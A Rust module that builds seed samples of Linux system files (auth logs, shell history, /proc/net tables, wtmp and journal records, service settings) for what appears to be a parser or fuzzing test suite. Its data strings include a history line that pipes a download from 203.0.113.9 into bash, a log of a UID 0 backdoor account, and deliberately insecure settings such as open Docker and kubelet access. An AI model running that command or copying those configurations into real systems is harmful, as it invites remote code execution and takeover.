//! Seeds for files that a Linux system writes about itself.

use super::Seed;

/// One of each kind of file.
pub(super) fn seeds() -> Vec<Seed> {
    let tcp = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   \
               0: 0100007F:0277 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 20811 1 0 100 0 0 10 0\n   \
               1: 050200C0:0016 096433C6:C350 01 00000024:00000000 01:00000014 00000000  1000        0 31007 4 0 20 4 29 10 -1\n";
    let udp6 = "  sl  local_address remote_address st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n  \
                459: 00000000000000000000000001000000:0222 00000000000000000000000000000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 18000 2 0 0\n";
    let log = "Nov 24 20:56:19 srv sshd[77]: Failed password for invalid user admin from 203.0.113.7 port 40000 ssh2\n\
               2026-11-24T20:56:20.1+01:00 srv sshd[77]: Accepted publickey for root from 2001:db8::7 port 1 ssh2: RSA SHA256:abc\n\
               Nov 24 20:56:19 srv sshd[77]: message repeated 5 times: [ Failed password for root from 203.0.113.7 port 40000 ssh2]\n\
               Nov 24 20:56:19 srv sudo:    alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n\
               Nov 24 20:56:19 srv su[1]: (to root) alice on pts/0\n\
               Nov 24 20:56:19 srv useradd[1]: new user: name=eve, UID=0, GID=0, home=/, shell=/bin/sh, from=none\n\
               Nov 24 20:56:19 srv vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=bob rhost=203.0.113.7  user=bob\n";
    let history = "#1700000000\ncurl -s http://203.0.113.9/a | bash\nchattr +i /etc/crontab\n: 1700000000:0;for x in 1; do\\\necho x\\\ndone\n";
    let settings = "bind 0.0.0.0\nprotected-mode no\nPermitRootLogin yes\nhost all all 10.0.0.0 255.0.0.0 trust\nc.ServerApp.token = ''\n";
    let yaml = "kind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\nnet:\n  bindIp: 0.0.0.0\n";
    let docker = "dockerd -H fd:// -H tcp://0.0.0.0:2375 \"hosts\": [\"unix:///x\", \"tcp://[::]:2376\"], \"tlsverify\": true";
    vec![
        Seed::new("sysfile", "auth-log", log),
        Seed::new("sysfile", "docker", docker),
        Seed::new("sysfile", "history", history),
        Seed::new("sysfile", "journal-compact", journal(true)),
        Seed::new("sysfile", "journal-regular", journal(false)),
        Seed::new("sysfile", "proc-net-tcp", tcp),
        Seed::new("sysfile", "proc-net-udp6", udp6),
        Seed::new("sysfile", "settings", settings),
        Seed::new("sysfile", "settings-yaml", yaml),
        Seed::new("sysfile", "wtmp", login(384, 340, 348)),
        Seed::new("sysfile", "wtmp-wide", login(400, 344, 360)),
    ]
}

/// A record of a login, its time and address at these places.
fn login(size: usize, secs: usize, address: usize) -> Vec<u8> {
    let mut record = vec![0; size];
    for (at, bytes) in [
        (0, &b"\x07\0"[..]),
        (8, b"pts/0"),
        (44, b"root"),
        (76, b"203.0.113.7"),
        (secs, b"\0\xf1\x53\x65"),
        (address, b"\xcb\0\x71\x07"),
    ] {
        record[at..at + bytes.len()].copy_from_slice(bytes);
    }
    record
}

/// A journal of one entry: a head, two values, the entry.
fn journal(compact: bool) -> Vec<u8> {
    let mut file = b"LPKSHHRH".to_vec();
    file.resize(208, 0);
    file[12] = if compact { 16 } else { 0 };
    file[88] = 208;
    let fixed = if compact { 72 } else { 64 };
    let mut places = Vec::new();
    for value in
        [&b"SYSLOG_IDENTIFIER=sshd"[..], b"MESSAGE=Failed password for root from 203.0.113.7 port 4 ssh2"]
    {
        places.push(file.len() as u64);
        object(&mut file, 1, &[&vec![0; fixed - 16], value].concat());
    }
    let mut entry = vec![0; 48];
    entry[8..16].copy_from_slice(&1_795_554_568_980_029u64.to_le_bytes());
    for place in places {
        let place = place.to_le_bytes();
        entry.extend_from_slice(if compact { &place[..4] } else { &place });
        entry.resize(entry.len() + if compact { 0 } else { 8 }, 0);
    }
    object(&mut file, 3, &entry);
    file
}

fn object(file: &mut Vec<u8>, kind: u8, content: &[u8]) {
    file.extend_from_slice(&[kind, 0, 0, 0, 0, 0, 0, 0]);
    file.extend_from_slice(&(content.len() as u64 + 16).to_le_bytes());
    file.extend_from_slice(content);
    file.resize(file.len().next_multiple_of(8), 0);
}
